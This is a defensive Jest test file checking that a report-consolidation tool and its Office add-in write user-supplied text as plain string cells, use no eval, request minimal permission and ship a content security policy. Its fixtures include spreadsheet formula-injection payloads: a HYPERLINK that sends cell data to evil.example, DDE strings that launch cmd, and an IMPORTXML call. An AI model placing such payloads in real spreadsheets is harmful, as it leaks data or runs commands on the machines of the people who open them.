// Nothing injected (issue: reliability and security): text that units type (names, tasks, results,
// notes) reaches the summary as plain string cells, never formulas, and the JSON verbatim; the
// source has no eval; the add-in asks for the least permission and its page carries a CSP.

import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { main } from "../../src/cli/main";
import { DEFAULT_PROFILE } from "../../src/core/profile";
import { readXlsx } from "../../src/xlsx/read";
import { reportBytes, type Edit } from "../helpers/report-builder";
import { capture } from "../helpers/cli-io";

const repo = join(__dirname, "..", "..");

type ConfigFactory = (
  env: Record<string, unknown>,
  argv: Record<string, unknown>,
) => Promise<{ plugins: object[] }>;
// The config rebuilds the command (build/cli) before reading it: here it reads the build there is
// (npm test builds first, bin/kl226.js when stale), not rebuilt while other test files run it.
jest.mock("../../scripts/build-cli", () => ({ buildCliChecked: async () => [] }));
// eslint-disable-next-line @typescript-eslint/no-require-imports
const makeConfig = require(join(repo, "webpack.config.js")) as ConfigFactory;

const NAME = '=HYPERLINK("http://evil.example/?"&A1,"Sở A")';
const OWN_TASK = "+cmd|' /C calc'!A0";
const OWN_LEAD = "-2+3+cmd|' /C notepad'!A0";
const OWN_DEADLINE = "@SUM(1+1)*cmd|' /C calc'!A0";
const RESULT = "=1+1";
const NOTE = '@IMPORTXML("http://evil.example")';
const FILE = "=2+5.xlsx";

describe("unit text is written as text, never as a formula", () => {
  const root = mkdtempSync(join(tmpdir(), "kl226-injection-"));
  const inDir = join(root, "in");
  mkdirSync(inDir);
  const own = 5 + DEFAULT_PROFILE.form.tasks.length; // first row after the profile's tasks (header is row 4)
  const edits: Edit[] = [
    { op: "set", sheet: "Nhiệm vụ", cell: "H5", value: RESULT },
    { op: "set", sheet: "Nhiệm vụ", cell: "I5", value: NOTE },
    { op: "set", sheet: "Nhiệm vụ", cell: `A${own}`, value: DEFAULT_PROFILE.form.tasks.length + 1 },
    { op: "set", sheet: "Nhiệm vụ", cell: `B${own}`, value: OWN_TASK },
    { op: "set", sheet: "Nhiệm vụ", cell: `C${own}`, value: OWN_LEAD },
    { op: "set", sheet: "Nhiệm vụ", cell: `F${own}`, value: OWN_DEADLINE },
    { op: "set", sheet: "Nhiệm vụ", cell: `G${own}`, value: "Đang thực hiện" },
    { op: "set", sheet: "Nhiệm vụ", cell: `H${own}`, value: RESULT },
    { op: "set", sheet: "Nhiệm vụ", cell: `I${own}`, value: NOTE },
  ];
  writeFileSync(join(inDir, FILE), reportBytes({ unit: "SO_A", name: NAME }, edits));
  const out = join(root, "tong-hop.xlsx");
  const json = join(root, "tong-hop.json");
  let code = -1;
  let io = capture();

  beforeAll(async () => {
    io = capture();
    code = await main(["consolidate", inDir, "--out", out, "--json", json], io);
  });

  test("the file is accepted (the hostile-looking text is a valid report)", () => {
    expect(io.stderr).toBe("");
    expect(code).toBe(0);
  });

  test("no sheet of the summary holds a formula", () => {
    const parts = unzipSync(new Uint8Array(readFileSync(out)));
    const sheets = Object.keys(parts).filter((p) => /^xl\/worksheets\/.*\.xml$/.test(p));
    expect(sheets.length).toBeGreaterThan(3);
    for (const p of sheets) expect(strFromU8(parts[p]!)).not.toMatch(/<(\w+:)?f[\s>/]/);
    expect(
      Object.keys(parts).some((p) => p.startsWith("xl/externalLinks/") || p.endsWith("vbaProject.bin")),
    ).toBe(false);
  });

  test("each unit-supplied text that reaches the summary is a string cell equal to the text", () => {
    const read = readXlsx(new Uint8Array(readFileSync(out)));
    if (!read.ok) throw new Error(read.reason);
    const all = read.workbook.sheets.flatMap((s) =>
      s.rows.flatMap((row) => (row ?? []).filter((c) => c !== undefined)),
    );
    expect(all.some((c) => c?.formula === true)).toBe(false);
    const strings = new Set(all.flatMap((c) => (c?.value.kind === "string" ? [c.value.value] : [])));
    for (const text of [NAME, OWN_TASK, OWN_DEADLINE]) expect(strings).toContain(text);
    expect([...strings].some((s) => s.endsWith(FILE))).toBe(true);
    // And in the shared-string table exactly as typed (XML-escaped only).
    const sst = strFromU8(unzipSync(new Uint8Array(readFileSync(out)))["xl/sharedStrings.xml"]!);
    const escaped = (s: string): string =>
      s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
    for (const text of [NAME, OWN_TASK, OWN_DEADLINE])
      expect(sst.replace(/&quot;/g, '"').replace(/&apos;/g, "'")).toContain(`>${escaped(text)}</t>`);
  });

  test("the JSON report holds the unit's text verbatim", () => {
    const report = JSON.parse(readFileSync(json, "utf8")) as { units: Array<{ name: string; file: string }> };
    expect(report.units.map((u) => u.name)).toEqual([NAME]);
    expect(report.units[0]?.file.endsWith(FILE)).toBe(true);
  });
});

describe("no code from data, least permission, a content security policy", () => {
  function sourceFiles(dir: string): string[] {
    return readdirSync(dir).flatMap((name) => {
      const p = join(dir, name);
      return statSync(p).isDirectory() ? sourceFiles(p) : /\.(ts|tsx|js)$/.test(name) ? [p] : [];
    });
  }

  test("src/ contains no eval( and no new Function(", () => {
    const files = sourceFiles(join(repo, "src"));
    expect(files.length).toBeGreaterThan(20);
    const offenders = files.filter((f) => /\beval\s*\(|\bnew\s+Function\s*\(/.test(readFileSync(f, "utf8")));
    expect(offenders).toEqual([]);
  });

  test("the manifest asks for ReadWriteDocument only", () => {
    const manifest = readFileSync(join(repo, "manifest.xml"), "utf8");
    expect([...manifest.matchAll(/<Permissions>([^<]*)<\/Permissions>/g)].map((m) => m[1])).toEqual([
      "ReadWriteDocument",
    ]);
  });

  const CSP_DIRECTIVES = [
    "default-src 'self'",
    "script-src 'self'",
    "connect-src 'self'",
    "object-src 'none'",
  ];

  /** The origin of Microsoft's office.js, the one foreign source the page may name (OFFICE_JS=cdn). */
  const OFFICE_JS_ORIGIN = "https://appsforoffice.microsoft.com";

  /** What a directive may list: the page's own files, nothing, and only where needed data: URLs, inline styles, the CDN office.js. */
  const allowedSources = (directive: string, officeJs: string): string[] => [
    "'self'",
    "'none'",
    ...(directive === "img-src" || directive === "font-src" ? ["data:"] : []),
    ...(directive === "style-src" ? ["'unsafe-inline'"] : []),
    ...(directive === "script-src" && officeJs === "cdn" ? [OFFICE_JS_ORIGIN] : []),
  ];

  /** The policy webpack.config.js puts in taskpane.html's meta, as [directive, sources] pairs. */
  async function builtPolicy(officeJs: string): Promise<Array<[string, string[]]>> {
    const config = await makeConfig({ officeJs }, { mode: "production" });
    const html = config.plugins.find((p) => p.constructor.name === "HtmlWebpackPlugin") as
      { userOptions: { meta: Record<string, { "http-equiv": string; content: string }> } } | undefined;
    const meta = html?.userOptions.meta["Content-Security-Policy"];
    expect(meta?.["http-equiv"]).toBe("Content-Security-Policy");
    return (meta?.content ?? "")
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((words) => words[0] !== "")
      .map(([name, ...sources]) => [name!, sources]);
  }

  test("the taskpane page is built with a Content-Security-Policy meta (no eval, no foreign hosts)", async () => {
    // office.js the add-in's own copy (the default), or Microsoft's (OFFICE_JS=cdn).
    for (const officeJs of ["", "cdn"]) {
      const policy = await builtPolicy(officeJs);
      const listed = new Map(policy);
      expect(listed.size).toBe(policy.length);
      for (const d of CSP_DIRECTIVES) {
        const [name, ...sources] = d.split(" ");
        const cdn = name === "script-src" && officeJs === "cdn";
        expect(listed.get(name!)).toEqual(cdn ? [...sources, OFFICE_JS_ORIGIN] : sources);
      }
      // Every source of every directive is one of those allowed: no other host, no eval, no wildcard.
      const foreign = policy.flatMap(([directive, sources]) =>
        sources
          .filter((s) => !allowedSources(directive, officeJs).includes(s))
          .map((s) => `${directive} ${s}`),
      );
      expect([officeJs, foreign]).toEqual([officeJs, []]);
    }
  });

  test("the built taskpane.html carries the policy", () => {
    const html = join(repo, "dist", "taskpane.html");
    // npm test builds before the unit tests; run alone, this needs `npm run build` first.
    if (!existsSync(html))
      throw new Error("dist/taskpane.html is missing: run `npm run build` first (npm test does)");
    const page = readFileSync(html, "utf8");
    const meta = /<meta[^>]*http-equiv="?Content-Security-Policy"?[^>]*content="([^"]*)"/i.exec(page);
    expect(meta).not.toBeNull();
    for (const d of CSP_DIRECTIVES) expect(meta?.[1]).toContain(d);
    expect(meta?.[1]).not.toContain("unsafe-eval");
    // The policy applies only to what follows it: it must come before the first script.
    expect(page.search(/<meta[^>]*Content-Security-Policy/i)).toBeLessThan(page.search(/<script/i));
  });
});
